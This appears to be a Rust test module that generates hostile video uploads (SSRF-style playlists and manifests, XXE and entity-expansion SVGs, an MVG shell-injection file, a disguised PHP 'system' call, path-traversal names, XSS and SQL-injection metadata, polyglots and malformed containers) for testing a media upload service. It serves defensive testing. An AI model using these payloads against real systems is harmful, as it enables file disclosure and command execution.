//! Hostile films: invalid files, polyglots and files with false metadata.

use std::{path::Path, process::Command};

use super::bytes::{Movie, atom, brand, chunk, element, noise, patched, words};

/// Marker that hostile uploads contain and that must not appear in any output.
pub const MARK: &str = "hostile-mark";

pub struct Hostile {
    /// Name of the file.
    pub name: &'static str,
    /// Expected error code. `None` if the film is valid. In that case, only its pictures and sound must remain.
    pub code: Option<&'static str>,
    pub bytes: Vec<u8>,
}

/// Targets that hostile files refer to.
pub struct Lure {
    /// Folder with files that don't belong to the uploader.
    pub folder: String,
    /// Address of a listener, such as `127.0.0.1:80`.
    pub address: String,
}

const BROKEN: Option<&str> = Some("video_corrupted_file");
const LONG: Option<&str> = Some("video_too_long");
const SHORT: Option<&str> = Some("video_too_short");

/// Writes valid films in each container, from which hostile ones are made.
pub fn write_bases(folder: &Path) {
    let tee = "base.mp4|base.mkv|base.avi|base.ts";
    let ffmpeg = |args: &str| {
        let mut command = Command::new("ffmpeg");
        command.current_dir(folder).args(["-nostdin", "-v", "error", "-y"]).args(args.split(' '));
        assert!(command.status().unwrap().success(), "{args}");
    };
    ffmpeg(&format!(
        "-f lavfi -i testsrc=s=64x64:r=10:d=2 -f lavfi -i sine=d=2:r=8000 -c:v libx264 -preset ultrafast -bf 0 -g 5 \
         -pix_fmt yuv420p -flags +global_header -c:a aac -ac 1 -metadata title={MARK} -f tee -map 0 -map 1 {tee}"
    ));
    // In two of these films, frames are 30 seconds apart: one has no duration, and the other has it only at the end.
    // Another film has no key frames.
    ffmpeg(
        "-i base.mp4 -map 0:1 -c copy sound.m4a -map 0:0 -c copy -bsf:v setts=ts=TS+30*N/TB -live 1 apart.mkv \
         -map 0:0 -c copy -bsf:v setts=ts=TS+30*N/TB -flvflags no_duration_filesize apart.flv \
         -map 0:0 -c copy -bsf:v noise=drop=key -f mpegts keyless.ts",
    );
    ffmpeg(
        "-f lavfi -i testsrc=s=2000x1000:r=10:d=0.3 -c:v libx264 -preset ultrafast -pix_fmt yuv420p -f mpegts large.ts",
    );
}

pub fn films(folder: &Path, lure: &Lure) -> Vec<Hostile> {
    let base = |name: &str| std::fs::read(folder.join(name)).unwrap();
    let all = [texts(lure), others(), movies(lure), polyglots(&base, lure), lies(&base), riffs(&base, lure)];
    all.into_iter().flatten().map(|(name, code, bytes)| Hostile { name, code, bytes }).collect()
}

type Row = (&'static str, Option<&'static str>, Vec<u8>);

/// Returns playlists, pages and scripts that refer to a file, an address or a program.
fn texts(lure: &Lure) -> Vec<Row> {
    let Lure { folder, address } = lure;
    let secret = format!("file://{folder}/secret.ts");
    let list = |lines: &str| format!("#EXTM3U\n#EXT-X-TARGETDURATION:9\n{lines}\n#EXT-X-ENDLIST\n");
    let texts = [
        ("list-of-files.mp4", list(&format!("#EXTINF:9,\n{secret}"))),
        ("list-of-addresses.mov", list(&format!("#EXTINF:9,\nhttp://{address}/a.ts"))),
        ("list-with-a-key.ts", list(&format!("#EXT-X-KEY:METHOD=AES-128,URI=\"http://{address}/key\"\n#EXTINF:9,\na.ts"))),
        ("list-with-a-map.m4s", list(&format!("#EXT-X-MAP:URI=\"{secret}\"\n#EXTINF:9,\n{secret}"))),
        ("list-of-joined.ts", list(&format!("#EXTINF:9,\nconcat:http://{address}/a?|{secret}"))),
        ("list-of-lists.m3u8", format!("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{address}/b.m3u8\n")),
        ("dash.mpd", format!(
            "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\"><Period><BaseURL>http://{address}/\
             </BaseURL><AdaptationSet><Representation id=\"1\"><BaseURL>{secret}</BaseURL></Representation></AdaptationSet></Period></MPD>")),
        ("joined.avi", format!("ffconcat version 1.0\nfile '{folder}/secret.ts'\n")),
        ("joined-by-option.mkv", format!("ffconcat version 1.0\nfile http://{address}/a.mp4\noption safe 0\n")),
        ("session.sdp", format!("v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 {}\nt=0 0\nm=video 9 RTP/AVP 96\n", &address[..9])),
        ("smooth.ism", format!("<SmoothStreamingMedia Url=\"http://{address}/\"><StreamIndex Type=\"video\"/></SmoothStreamingMedia>")),
        ("windows.asx", format!("<ASX version=\"3.0\"><ENTRY><REF HREF=\"http://{address}/a.wmv\"/></ENTRY></ASX>")),
        ("windows.wmv", format!("[Reference]\r\nRef1=http://{address}/a.wmv\r\nRef2={secret}\r\n")),
        ("real.ram", format!("rtsp://{address}/a.rm\n{secret}\n")),
        ("old.pls", format!("[playlist]\nFile1=http://{address}/a\nNumberOfEntries=1\n")),
        ("list.xspf", format!("<playlist version=\"1\"><trackList><track><location>{secret}</location></track></trackList></playlist>")),
        ("quick.mov", format!("<?xml version=\"1.0\"?><?quicktime type=\"application/x-quicktime-media-link\"?><embed src=\"http://{address}/\"/>")),
        ("script.avs", format!("DirectShowSource(\"{folder}/secret.mp4\")\n")),
        ("script.vpy", format!("import os\nos.system('touch {folder}/new')\n")),
        ("script.sh", format!("#!/bin/sh\ntouch {folder}/new\n")),
        ("page.html", format!("<!doctype html><script src=\"http://{address}/\"></script><video src=\"{secret}\">")),
        ("page.php.mp4", format!("<?php system('touch {folder}/new'); ?>")),
        ("drawing.svg", format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><script>alert(1)</script>\
             <image xlink:href=\"{secret}\"/><image href=\"http://{address}/\"/></svg>")),
        ("entity.svg", format!("<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY x SYSTEM \"{secret}\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>")),
        ("laughs.svg", "<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]><svg>&c;</svg>".to_owned()),
        ("shell.mvg", format!("push graphic-context\nviewbox 0 0 9 9\nfill 'url(http://{address}/|touch {folder}/new)'\npop graphic-context\n")),
        ("words.ass", format!("[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ../../new\n[V4+ Styles]\nStyle: a,{folder}/secret.ttf,20\n[Events]\n")),
        ("words.srt", "1\n00:00:00,000 --> 99:00:00,000\n<script>alert(1)</script>\n".to_owned()),
        ("chapters.txt", format!(";FFMETADATA1\ntitle={secret}\n")),
        ("document.pdf", format!("%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(http://{address}/)>>>>endobj\n")),
        ("frames.y4m", "YUV4MPEG2 W65535 H65535 F25:1 Ip A1:1 C444p16\nFRAME\n".to_owned()),
    ];
    texts.map(|(name, text)| (name, BROKEN, text.into_bytes())).into()
}

/// Returns files of other types with misleading names.
fn others() -> Vec<Row> {
    let padded = |head: &[u8]| [head, &noise(1, 4000)[..]].concat();
    let files: [(&'static str, Vec<u8>); 13] = [
        ("one-byte.mp4", vec![0x1a]),
        ("zeros.mp4", vec![0; 70_000]),
        ("noise.mp4", noise(7, 70_000)),
        ("program.mp4", padded(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0")),
        ("program.avi", padded(b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff")),
        ("archive.mkv", padded(b"PK\x03\x04\x14\0\0\0\x08\0../../new")),
        ("packed.mp4", padded(b"\x1f\x8b\x08\0\0\0\0\0\x02\xff")),
        ("flash.flv", padded(b"FWS\x0a\xff\xff\xff\x7f")),
        ("holiday.mov", padded(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x7f\xff\xff\xff\x7f\xff\xff\xff\x08\x06\0\0\0")),
        ("moving.mp4", padded(b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02")),
        (
            "photo.3gp",
            padded(b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03"),
        ),
        ("sound.webm", padded(b"OggS\0\x02\xff\xff\xff\xff\xff\xff\xff\x7f\0\0\0\0\0\0\0\0\0\0\0\0\x01\x1e\x01vorbis")),
        ("../../../../tmp/new.mp4", padded(b"nut/multimedia container\0NM")),
    ];
    files.map(|(name, bytes)| (name, BROKEN, bytes)).into()
}

/// Returns MP4 files that are built byte by byte.
fn movies(lure: &Lure) -> Vec<Row> {
    let nested = (0..5000).fold(Vec::new(), |inner, _| atom(b"moov", &[&inner]));
    let names = |kind: &[u8; 4]| {
        let place = format!("file://{}/secret.mp4\0", lure.folder);
        atom(b"dref", &[&words(&[0, 1]), &atom(kind, &[&words(&[0]), place.as_bytes()])])
    };
    let alias = {
        let mut record = vec![0; 150];
        record[4..8].copy_from_slice(&[0, 150, 0, 2]);
        let path = lure.folder.as_bytes();
        let tail = [&[0, 2], &(path.len() as u16).to_be_bytes()[..], path, &[0xff, 0xff, 0, 0]].concat();
        atom(b"dref", &[&words(&[0, 1]), &atom(b"alis", &[&words(&[0]), &record, &tail])])
    };
    let edits: Vec<u32> = [0, 30_000].into_iter().chain([20, 0, 0x10000].repeat(30_000)).collect();
    let packed =
        atom(b"cmov", &[&atom(b"dcom", &[b"zlib"]), &atom(b"cmvd", &[&words(&[0xe000_0000]), &noise(3, 900)])]);
    let movie = |shade: u8, change: &dyn Fn(&mut Movie)| {
        let mut movie = Movie::default();
        change(&mut movie);
        movie.file(shade)
    };
    vec![
        ("frames-elsewhere.mov", None, movie(2, &|it| it.data = names(b"url "))),
        ("frames-elsewhere-too.mov", BROKEN, movie(3, &|it| it.data = alias.clone())),
        (
            "huge-index.mp4",
            BROKEN,
            movie(4, &|it| {
                (it.times, it.chunks) = (vec![1, 170_000_000, 1], vec![1, 1, 170_000_000, 1]);
                it.sizes = vec![1, 170_000_000];
            }),
        ),
        ("packed-index.mov", BROKEN, [brand(), atom(b"moov", &[&packed])].concat()),
        ("edits-without-end.mp4", LONG, movie(5, &|it| it.track = atom(b"edts", &[&atom(b"elst", &[&words(&edits)])]))),
        ("huge-frames.mp4", BROKEN, movie(7, &|it| (it.width, it.height) = (0xffff, 0xffff))),
        ("of-no-width.mp4", BROKEN, movie(8, &|it| it.width = 0)),
        ("a-line.mp4", BROKEN, movie(9, &|it| it.picture = atom(b"pasp", &[&words(&[1, 30_000])]))),
        ("a-long-line.mp4", BROKEN, movie(10, &|it| it.picture = atom(b"pasp", &[&words(&[0x7fff_ffff, 1])]))),
        (
            "years.mp4",
            LONG,
            movie(11, &|it| (it.seconds, it.times) = (0x0fff_ffff, vec![1, 20, 0x0fff_ffff / 20 * 10])),
        ),
        ("never-shown.mp4", BROKEN, movie(12, &|it| it.places = vec![1, 0xffff_fff0])),
        (
            "chunks-without-end.mp4",
            BROKEN,
            movie(13, &|it| (it.chunks, it.places) = (vec![0xffff_ffff, 1, 0xffff_ffff, 1], vec![0xffff_ffff, 32])),
        ),
        ("boxes-in-boxes.mp4", BROKEN, [brand(), nested].concat()),
        ("box-of-all.mp4", BROKEN, [brand(), words(&[1]), b"moov".to_vec(), vec![0xff; 8], noise(5, 500)].concat()),
        ("no-index.mp4", BROKEN, [brand(), atom(b"mdat", &[&noise(6, 5000)])].concat()),
        (
            "words-in-it.mp4",
            None,
            movie(14, &|it| it.movie = title_metadata("<script src=//x></script>'; drop table videos; --")),
        ),
    ]
}

/// Builds QuickTime title metadata.
fn title_metadata(text: &str) -> Vec<u8> {
    let text = format!("{text}{MARK}\0\r\n{{{{7*7}}}}");
    let entry = atom(b"\xa9nam", &[&(text.len() as u16).to_be_bytes(), &[0x55, 0xc4], text.as_bytes()]);
    atom(b"udta", &[&entry])
}

/// Returns films that are also valid files of another type.
fn polyglots(base: &dyn Fn(&str) -> Vec<u8>, lure: &Lure) -> Vec<Row> {
    let list = format!("#EXTM3U\n#EXTINF:9,\nhttp://{}/{MARK}.ts\n#EXT-X-ENDLIST\n", lure.address);
    let film = base("base.mp4");
    let archive = [&b"PK\x05\x06"[..], &[0; 18], MARK.as_bytes()].concat();
    vec![
        ("list-then-film.mp4", BROKEN, [list.as_bytes(), &film].concat()),
        ("film-and-archive.mp4", None, [&film[..], &archive].concat()),
        ("page-then-film.ts", BROKEN, [format!("<html><!--{}", "x".repeat(9000)).as_bytes(), &film].concat()),
    ]
}

/// Returns truncated and corrupted films, and films with false numbers.
fn lies(base: &dyn Fn(&str) -> Vec<u8>) -> Vec<Row> {
    let half = |name: &str| {
        let whole = base(name);
        whole[..whole.len() / 2].to_vec()
    };
    let matroska = base("base.mkv");
    let font = element(
        b"\x61\xa7",
        &[
            element(b"\x46\x6e", b"../../new.ttf"),
            element(b"\x46\x60", b"font/ttf"),
            element(b"\x46\x5c", MARK.as_bytes()),
            element(b"\x46\xae", &[9]),
        ]
        .concat(),
    );
    let picture = element(
        b"\x61\xa7",
        &[
            element(b"\x46\x6e", b"cover.svg"),
            element(b"\x46\x60", b"image/svg+xml"),
            element(b"\x46\x5c", format!("<svg><script>{MARK}</script></svg>").as_bytes()),
            element(b"\x46\xae", &[8]),
        ]
        .concat(),
    );
    let attached = [&matroska[..], &element(b"\x19\x41\xa4\x69", &[font, picture].concat())].concat();
    vec![
        ("cut.mp4", BROKEN, half("base.mp4")),
        ("cut.mkv", BROKEN, half("base.mkv")),
        ("only-sound.mp4", BROKEN, base("sound.m4a")),
        ("years-apart.mkv", LONG, base("apart.mkv")),
        ("years-apart.flv", LONG, base("apart.flv")),
        ("no-key-frames.ts", BROKEN, base("keyless.ts")),
        ("with-fonts.mkv", None, attached),
        ("of-kind-9.mkv", BROKEN, patched(&matroska, b"\x42\x85\x81\x02", b"\x42\x85\x81\x09")),
        ("large.ts", BROKEN, base("large.ts")),
        (
            "no-packets.ts",
            BROKEN,
            [0x47, 0x1f, 0xff, 0x10].into_iter().chain([0xff; 184]).cycle().take(188 * 300).collect(),
        ),
        (
            "one-frame.mp4",
            SHORT,
            Movie {
                times: vec![1, 1, 1],
                sizes: vec![768, 1],
                chunks: vec![1, 1, 1, 1],
                seconds: 10,
                ..Movie::default()
            }
            .file(30),
        ),
    ]
}

/// Returns AVI, RealMedia, Windows Media and MPEG files with false headers.
fn riffs(base: &dyn Fn(&str) -> Vec<u8>, lure: &Lure) -> Vec<Row> {
    let avi = base("base.avi");
    let list =
        format!("#EXTM3U\n#EXTINF:9,\nhttp://{}/a\n#EXTINF:9,\nfile://{}/secret.ts\n", lure.address, lure.folder);
    let words = [
        &b"GAB2\0\x02\0"[..],
        &4_u32.to_le_bytes(),
        b"x\0\0\0",
        b"\x04\0",
        &(list.len() as u32).to_le_bytes(),
        list.as_bytes(),
    ]
    .concat();
    let kind = [&b"txts"[..], &[0; 16], &[1, 0, 0, 0, 1, 0, 0, 0], &[0; 28]].concat();
    let track = chunk(b"LIST", &[&b"strl"[..], &chunk(b"strh", &kind), &chunk(b"strf", b"")].concat());
    let movie = avi.windows(4).position(|name| name == b"movi").unwrap() - 8;
    let titles = [&avi[..movie], &track, &avi[movie..movie + 12], &chunk(b"02tx", &words), &avi[movie + 12..]].concat();
    let head = avi.windows(4).position(|name| name == b"strh").unwrap() + 8;
    let with = |at: usize, value: u32| {
        let mut file = avi.clone();
        file[head + at..head + at + 4].copy_from_slice(&value.to_le_bytes());
        file
    };
    // The only entry in the index is the index itself.
    let entry = (head as u64 + 48).to_le_bytes();
    let index = [&[4, 0, 0, 0, 1, 0, 0, 0][..], b"00dc", &[0; 12], &entry, &[48, 0, 0, 0, 9, 0, 0, 0]].concat();
    let looped = patched(&titles, b"strf", &[&chunk(b"indx", &index)[..], b"strf"].concat());
    vec![
        ("list-as-titles.avi", None, looped),
        ("slow.avi", LONG, with(20, 1000)),
        ("many-frames.avi", BROKEN, with(32, 0x7fff_ffff)),
        (
            "head.rm",
            BROKEN,
            [&b".RMF\0\0\0\x12\0\0\0\0\0\0\xff\xff\xff\xffPROP\xff\xff\xff\xff\0\0"[..], &noise(8, 900)].concat(),
        ),
        (
            "head.wmv",
            BROKEN,
            [&b"\x30\x26\xb2\x75\x8e\x66\xcf\x11\xa6\xd9\0\xaa\0\x62\xce\x6c"[..], &[0xff; 8], &noise(9, 900)].concat(),
        ),
        (
            "head.mpg",
            BROKEN,
            [&b"\0\0\x01\xba\x44\0\x04\0\x04\x01\0\0\x03\xf8\0\0\x01\xe0\xff\xff"[..], &noise(10, 9000)].concat(),
        ),
    ]
}
